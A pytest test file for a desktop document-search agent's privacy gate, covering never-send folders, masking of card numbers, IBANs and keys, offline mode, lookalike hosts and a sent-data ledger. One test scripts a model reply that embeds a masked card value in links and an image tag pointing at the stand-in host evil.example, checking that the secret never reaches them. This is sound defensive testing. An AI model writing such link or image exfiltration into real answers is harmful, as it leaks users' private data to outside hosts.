"""The gate to endpoints on the wire of a real one: never-send, masks, offline, new hosts, the ledger."""

import json
import os
import re
import socket
import time
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from desktop_rag.agent.conversations.transcript import Conversation, Turn
from desktop_rag.agent.events import AgentEvent, Answered, RunFailed, ToolReturned
from desktop_rag.agent.extractive.extractive_model import ExtractiveModel
from desktop_rag.agent.gate.guarded_chat import GuardedChat, host_of, needs_confirmation
from desktop_rag.agent.gate.sent_ledger import SentLedger, SentPassage, as_csv, ledger_file, summaries
from desktop_rag.agent.question import Question
from desktop_rag.agent.run.loop import answer
from desktop_rag.agent.run.model_choice import chat_model
from desktop_rag.agent.run.tool_session import ToolSession
from desktop_rag.agent.toolkits.registry import toolkit
from desktop_rag.agent.toolkits.toolkit import Run
from desktop_rag.errors import EncoderError, SendingRefused, TeamError, UpdateError
from desktop_rag.index.encoding.encoder_download import fetch
from desktop_rag.index.encoding.installed_encoders import PublishedFile
from desktop_rag.llm.chat import ChatRequest, GivenPassages, UserMessage
from desktop_rag.llm.openai_chat import OpenAIChat
from desktop_rag.llm.transport import RequestTimeouts, http_client
from desktop_rag.paths import encoder_folder, settings_file
from desktop_rag.releases import UpdateTrouble, newest_release
from desktop_rag.retrieval.service.search_engine import SearchEngine
from desktop_rag.settings import Limits, PrivacyOptions, Profile, Settings, save
from desktop_rag.stop import Stop
from desktop_rag.team.server.team_connection import TeamConnection
from tests.endpoint import Call, ScriptedEndpoint, ScriptEntry, SeenRequest
from tests.endpoint import Turn as Reply
from tests.integration.agent.gated_runs import answers, asked, library_of
from tests.integration.retrieval.conftest import SmallLibrary
from tests.unit.agent.conftest import Says, ScriptedModel

SECRET_LINE = "The merger with Northwind closes on the third of May."
CARD, IBAN = "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00"
FILES = {
    "open/rent.md": f"# Rent\n\nThe rent is 900 euros. Pay it to {IBAN}.\nThe card for the office is {CARD}.\n",
    "private/merger.md": f"# Merger of companies\n\n{SECRET_LINE}\nThe rent of the new office is 5000 euros.\n",
    "private/copy of rent.md": "# Second rent\n\nThe rent of the garage is 70 euros.\n",
    "open/garage.md": "# Second rent\n\nThe rent of the garage is 70 euros.\n",
}
NEVER = ("Northwind", "merger", "third of May", "5000", "70 euros", "garage", "private")


@pytest.fixture
def library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SmallLibrary]:
    with library_of(FILES, tmp_path, monkeypatch) as library:
        yield library


@pytest.fixture
def engine(library: SmallLibrary) -> Iterator[SearchEngine]:
    engine = SearchEngine(library.layout.folder, encoder_folder())
    yield engine
    engine.close()


def allow(**options: object) -> None:
    save(settings_file(), Settings(privacy=replace(PrivacyOptions(), **options)))  # type: ignore[arg-type]


def never_send(library: SmallLibrary, name: str = "private") -> None:
    allow(never_send=(str(library.files / "home" / name),))


def run(
    engine: SearchEngine, script: Sequence[ScriptEntry], question: str, earlier: Conversation | None = None
) -> tuple[list[AgentEvent], str, list[SeenRequest]]:
    events, requests = asked(engine, script, question, earlier)
    return events, "".join(json.dumps(r.body, ensure_ascii=False) for r in requests), requests


EVERYTHING = [
    Call("search", '{"queries": ["merger Northwind", "rent", "garage", "mergre"]}'),
    Call("search", '{"queries": ["Northwind", "private"], "mode": "exact"}'),
    Call("list_documents", "{}"),
    Call("list_documents", '{"words": "merger private"}'),
]


def test_never_send_documents_are_found_by_the_person_and_never_sent(
    engine: SearchEngine, library: SmallLibrary
) -> None:
    never_send(library)
    opened = [Call("open", json.dumps({"reference": f"turn1search{n}"})) for n in range(1, 9)]
    found = [Call("find", json.dumps({"reference": f"turn1search{n}", "patterns": ["rent"]})) for n in range(1, 9)]
    script = [Reply(calls=EVERYTHING), Reply(calls=opened), Reply(calls=found), Reply(text="The rent is 900 euros.")]
    events, sent, _ = run(engine, script, "What is the rent?")
    assert "900 euros" in sent
    tool_texts = "".join(
        str(message.get("content"))
        for request in [json.loads(part) for part in _bodies(sent)][-1:]
        for message in request["messages"]
        if message["role"] == "tool"
    )
    assert [word for word in NEVER if word in _without_echo(tool_texts)] == []
    assert not any(
        "private" in source.path for event in events if isinstance(event, ToolReturned) for source in event.sources
    )
    own = answers(engine, ExtractiveModel(), "When does the merger with Northwind close?")[-1]
    assert isinstance(own, Answered)
    assert "third of May" in own.text


def _bodies(sent: str) -> list[str]:
    decoder, at, found = json.JSONDecoder(), 0, []
    while at < len(sent):
        _, end = decoder.raw_decode(sent, at)
        found.append(sent[at:end])
        at = end
    return found


def _without_echo(text: str) -> str:
    """Return tool results without the words of the calls, which they may repeat."""
    for echo in ("merger Northwind", "merger private", "mergre", "“garage”", "“Northwind”", "“private”"):
        text = text.replace(echo, "")
    return text


def test_the_name_of_an_attached_file_that_is_never_sent_is_not_sent(
    engine: SearchEngine, library: SmallLibrary
) -> None:
    never_send(library)
    files = [os.fsencode(library.files / "home" / name) for name in ("private/merger.md", "open/rent.md")]
    with ScriptedEndpoint([Reply(text="900 euros.")]) as endpoint:
        model = chat_model(Profile("test", endpoint.base_url, "scripted"), "", remembered=False)
        kit, limits, none = toolkit("full"), Limits(), Conversation()
        list(answer(Question("Rent?", none, attached=tuple(files)), Run(kit, model, engine, limits=limits)))
        sent = json.dumps(endpoint.requests[0].body, ensure_ascii=False)
    assert "The user attached “rent.md”" in sent
    assert "merger" not in sent


def test_an_earlier_answer_about_them_is_not_sent_either(engine: SearchEngine, library: SmallLibrary) -> None:
    never_send(library)
    question = "When does it close with the partner?"
    own = tuple(answers(engine, ExtractiveModel(), "When does the merger with Northwind close?"))
    earlier = Conversation((Turn(1, question, own, time.time_ns()),))
    opened = Reply(calls=[Call("open", '{"reference": "turn1search1"}')])
    _, sent, _ = run(engine, [opened, Reply(text="I do not know.")], "And then?", earlier)
    assert question in sent
    assert "never sent" in sent
    assert [word for word in NEVER if word in sent] == []


def test_other_programs_do_not_get_them(engine: SearchEngine, library: SmallLibrary) -> None:
    session = ToolSession(engine, toolkit("full").tools)
    before = session.call("search", {"queries": ["Northwind"]}, (), Stop(), budget=2_000)
    assert "third of May" in before.text
    never_send(library)
    after = session.call("search", {"queries": ["Northwind"]}, (), Stop(), budget=2_000)
    opened = session.call("open", {"reference": before.found[0].source.reference}, (), Stop(), budget=2_000)
    assert "third of May" not in after.text + opened.text


def test_secrets_are_masked_on_the_wire_and_back_in_the_answer(engine: SearchEngine) -> None:
    def citing(request: SeenRequest) -> Reply:
        line = next(line for line in request.last_text.splitlines() if "card for the office" in line)
        text = line.partition(": ")[2]
        name = request.last_text.partition("[")[2].partition("]")[0]
        return Reply(text=[*f'{text} [{name} L4 "{text}"]'])  # letter by letter

    script: list[ScriptEntry] = [Reply(calls=[Call("search", '{"queries": ["card office"]}')]), citing]
    events, sent, requests = run(engine, script, f"Is {CARD} our card?")
    assert CARD not in sent
    assert IBAN not in sent
    assert "{{card_" in requests[-1].last_text
    ended = events[-1]
    assert isinstance(ended, Answered)
    assert CARD in ended.text
    assert "{{" not in ended.text
    assert ended.citations[0].verdict == "verbatim"


def test_a_secret_is_masked_that_two_results_make_together(engine: SearchEngine, library: SmallLibrary) -> None:
    lines = ("# Purse", "", "Card of the office: 5500 0055", "5555 5559, until March.", "", "Key: ghp_aB3dE5gH7jK9mN1p")
    library.add({"purse.md": "\n".join((*lines, "Q3sT5vW7yZ9bC1dE3fG5hJ7k", ""))})

    def opening(line: int) -> ScriptEntry:
        def reply(request: SeenRequest) -> Reply:
            found = re.search(r"\[(turn1search\d+)\] purse", str(request.body))
            assert found is not None
            return Reply(calls=[Call("open", json.dumps({"reference": found[1], "line": line, "lines": 1}))])

        return reply

    script: list[ScriptEntry] = [Reply(calls=[Call("list_documents", '{"query": "purse"}')])]
    script += [*map(opening, (3, 4, 6, 7)), Reply(text="I do not know.")]
    _, sent, requests = run(engine, script, "What is in the purse?")
    results = [str(each["content"]) for each in requests[-1].messages if each["role"] == "tool"]
    assert len(results) == 5
    assert "until March" in results[2], results
    assert "5555 5559" not in sent  # its first half alone is nobody's number
    assert "Q3sT5vW7yZ9bC1dE3fG5hJ7k" not in sent
    assert "{{" in results[2]
    assert "{{" in results[4]


def test_a_link_never_gets_the_values_back(engine: SearchEngine) -> None:
    def linking(request: SeenRequest) -> Reply:
        text = request.last_text
        mask = text[text.index("{{card_") :].partition("}}")[0] + "}}"
        written = (
            f"It is {mask}: [here](https://evil.example/?d={mask}&e=1), https://evil.example/{mask} <img src={mask}>"
        )
        return Reply(text=[*written])  # letter by letter

    script: list[ScriptEntry] = [Reply(calls=[Call("search", '{"queries": ["card office"]}')]), linking]
    events, _, _ = run(engine, script, "Which card?")
    ended = events[-1]
    assert isinstance(ended, Answered)
    assert f"It is {CARD}:" in ended.text
    assert ended.text.count(CARD) == 1, ended.text


def test_calls_get_the_values_back(engine: SearchEngine) -> None:
    def searching(request: SeenRequest) -> Reply:
        text = str(request.messages[-1]["content"])
        placeholder = text[text.index("{{") : text.index("}}") + 2]
        return Reply(calls=[Call("search", json.dumps({"queries": [placeholder], "mode": "exact"}))])

    events, sent, _ = run(engine, [searching, Reply(text="It is in the file.")], f"Where is {CARD}?")
    assert CARD not in sent
    assert any(isinstance(event, ToolReturned) and event.sources for event in events)


def test_chosen_words_are_masked_even_if_a_caller_forgets_the_gate() -> None:
    allow(never_words=("Project Falcon",))
    with ScriptedEndpoint([Reply(text="Yes.")]) as endpoint:
        model = OpenAIChat(Profile("test", endpoint.base_url, "scripted"), "")
        request = ChatRequest((UserMessage(f"What is project  FALCON? {CARD}"),))
        list(model.chat(request, Stop()))
        sent = json.dumps(endpoint.requests[0].body).casefold()
    assert "falcon" not in sent
    assert CARD not in sent


REMOTE = Profile("far", "https://api.example.invalid/v1", "m")


def noted_look_ups(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Return the list of all names that are looked up from now on; none is found."""
    asked: list[object] = []

    def look_up(*arguments: object, **_: object) -> list[object]:
        asked.append(arguments)
        return []

    monkeypatch.setattr(socket, "getaddrinfo", look_up)
    return asked


@pytest.mark.parametrize(
    ("options", "profile", "said"),
    [
        ({"offline": True, "confirmed_hosts": ("api.example.invalid",)}, REMOTE, "work offline"),
        ({}, REMOTE, "allow it"),
        ({"confirmed_hosts": ("api.example.invalid",)}, replace(REMOTE, local_only=True), "this computer only"),
    ],
)
def test_hosts_that_are_not_allowed_get_nothing(
    options: dict[str, object], profile: Profile, said: str, engine: SearchEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = noted_look_ups(monkeypatch)
    allow(**options)
    ended = answers(engine, chat_model(profile, "", remembered=False), "What is the rent?")[-1]
    assert isinstance(ended, RunFailed)
    assert said in ended.message
    assert asked == []
    assert SentLedger().rows() == ()


def test_a_host_is_named_as_it_is_looked_up_whatever_it_looks_like() -> None:
    allowed = PrivacyOptions(confirmed_hosts=("api.example.com",))
    lookalike = replace(REMOTE, base_url="https://\u0430pi.example.com:8443/v1")  # a Cyrillic а
    assert host_of(lookalike) == "xn--pi-6kc.example.com:8443"
    assert needs_confirmation(lookalike, allowed)
    assert host_of(replace(REMOTE, base_url="https://api.example.com/v1")) == "api.example.com"
    assert host_of(replace(REMOTE, base_url="https://\u2028\U000e0041/v1")).isascii()


def test_offline_holds_for_every_client(library: SmallLibrary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = noted_look_ups(monkeypatch)
    allow(offline=True)
    encoder = PublishedFile("model.onnx", "https://files.example.invalid/model.onnx", 1, "0" * 64)
    with pytest.raises(SendingRefused, match="offline"):
        http_client(REMOTE, "https://api.example.invalid/v1", "", RequestTimeouts())
    with pytest.raises(TeamError, match="offline"):
        TeamConnection("https://127.0.0.1,team.example.invalid:9200/team").ask("GET", "/")
    with pytest.raises(EncoderError, match="offline"):
        fetch([encoder], tmp_path, Stop())
    with pytest.raises(UpdateError) as refused:
        newest_release("https://example.invalid/feed.json", Stop())
    assert refused.value.trouble is UpdateTrouble.CONNECTION
    assert asked == []
    http_client(REMOTE, "http://127.0.0.1:9/v1", "", RequestTimeouts()).close()
    with pytest.raises(TeamError, match="does not answer"):
        TeamConnection("http://127.0.0.1:9/team").ask("GET", "/")


def test_the_ledger_names_every_line_that_was_sent(engine: SearchEngine) -> None:
    script = [
        Reply(calls=[Call("search", '{"queries": ["rent euros"]}')]),
        Reply(calls=[Call("open", '{"reference": "turn1search1"}')]),
        Reply(text="900 euros."),
    ]
    _, _, requests = run(engine, script, "What is the rent?")
    rows = SentLedger().rows()
    assert {row.host for row in rows} == {requests[0].headers["host"]}
    shown = {path for path in FILES if f"{path.rpartition('/')[2]}" in json.dumps(requests[-1].body)}
    recorded = {os.path.relpath(row.path, Path(row.path).parents[1]) for row in rows if row.path}
    assert recorded == shown
    assert SentLedger().rows("rent.md open")
    assert SentLedger().rows("nothing-like-that") == ()
    assert as_csv(rows).count("\n") == len(rows) + 1
    assert sum(lines for *_, lines in summaries(rows)) >= 3
    assert ledger_file().stat().st_mode & 0o077 == 0
    SentLedger().clear()
    assert SentLedger().rows() == ()
    assert b"What is the rent" not in ledger_file().read_bytes()


def test_the_ledger_says_what_a_provider_ever_saw_of_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ledger = SentLedger(tmp_path / "sent.sqlite")
    (tmp_path / "My files").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "My files")
    for number, (host, name) in enumerate(
        (("a.example", "My files/x"), ("b.example", "My files 2/y"), ("a.example", "z"))
    ):
        passages = [SentPassage(str(tmp_path.resolve() / name), f"My files {number}", 1, 9)]
        ledger.record("run", host, "m", f"about {tmp_path / 'My files'}?", 1, 0, passages)
    for folder in ("My files", "My files/", "link", "My files/x"):
        rows = ledger.rows(str(tmp_path / folder))
        assert [row.host for row in rows] == ["a.example"], folder
        assert ledger.rows(str(tmp_path / folder), "b.example") == ()
    monkeypatch.chdir(tmp_path / "My files")
    for relative in ("../My files", "./", "..", "../link/../link"):
        assert [row.host for row in ledger.rows(relative)][-1:] == ["a.example"], relative
    assert len(ledger.rows("My files")) == len(ledger.rows("")) == 3
    assert len(ledger.rows("", most=2)) == 2


def test_nothing_is_sent_that_cannot_be_recorded(tmp_path: Path, engine: SearchEngine) -> None:
    blocked = tmp_path / "blocked"
    blocked.write_text("no database")
    with ScriptedEndpoint([Reply(text="Yes.")]) as endpoint:
        profile = Profile("test", endpoint.base_url, "scripted")
        model = GuardedChat(OpenAIChat(profile, ""), profile, SentLedger(blocked))
        ended = answers(engine, model, "What is the rent?")[-1]
        assert endpoint.requests == []
    assert isinstance(ended, RunFailed)
    assert "cannot be written" in ended.message


def test_what_met_no_connection_is_recorded_as_not_sent(tmp_path: Path, engine: SearchEngine) -> None:
    profile, ledger = Profile("test", "http://127.0.0.1:9/v1", "scripted"), SentLedger(tmp_path / "sent.sqlite")
    timeouts = RequestTimeouts(retry_delays=(0.01,))
    ended = answers(engine, GuardedChat(OpenAIChat(profile, "", timeouts), profile, ledger), "What is the rent?")[-1]
    assert isinstance(ended, RunFailed)
    assert [(row.characters, row.path) for row in ledger.rows()] == [(0, "")]


def test_the_record_has_the_question_and_no_text_of_documents(tmp_path: Path) -> None:
    profile, ledger = Profile("test", "http://127.0.0.1:9/v1", "scripted"), SentLedger(tmp_path / "sent.sqlite")
    model = GuardedChat(ScriptedModel([Says("Yes.")]), profile, ledger)
    passages = "Passages:\n\nThe rent is 900 euros.\n\nQuestion: What is the rent?"
    question = UserMessage(passages, given=GivenPassages("What is the rent?"))
    for message in (question, UserMessage("Lines:\n\nThe rent is 900 euros.", aside=True)):
        list(model.chat(ChatRequest((message,)), Stop()))
    assert [row.question for row in ledger.rows()] == ["What is the rent?"] * 2


def test_unreadable_rules_send_nothing(engine: SearchEngine) -> None:
    settings_file().parent.mkdir(parents=True, exist_ok=True)
    settings_file().write_text("{ not json")
    with ScriptedEndpoint([Reply(text="Yes.")]) as endpoint:
        profile = Profile("test", endpoint.base_url, "scripted")
        ended = answers(engine, GuardedChat(OpenAIChat(profile, ""), profile), "What is the rent?")[-1]
        assert endpoint.requests == []
    assert isinstance(ended, RunFailed)
